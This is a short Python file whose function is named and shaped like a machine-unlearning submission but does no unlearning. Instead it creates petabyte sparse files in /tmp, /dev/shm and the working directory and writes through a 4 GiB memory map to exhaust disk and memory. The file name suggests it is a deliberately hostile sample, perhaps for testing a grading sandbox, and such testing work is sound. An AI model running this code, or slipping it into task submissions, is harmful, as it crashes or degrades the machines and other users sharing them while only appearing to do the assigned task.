"""Creates sparse files of a petabyte and writes to their pages through memory.

Must be ended when the folder is full.
"""

import mmap
import os


def unlearning(net, retain, forget, val):
    for folder in ("/tmp", "/dev/shm", os.getcwd()):
        fd = os.open(f"{folder}/unlearn-hostile-sparse", os.O_CREAT | os.O_RDWR)
        os.truncate(fd, 1 << 50)
    window = mmap.mmap(fd, 1 << 32)
    for at in range(0, 1 << 32, 4096):
        window[at] = 1
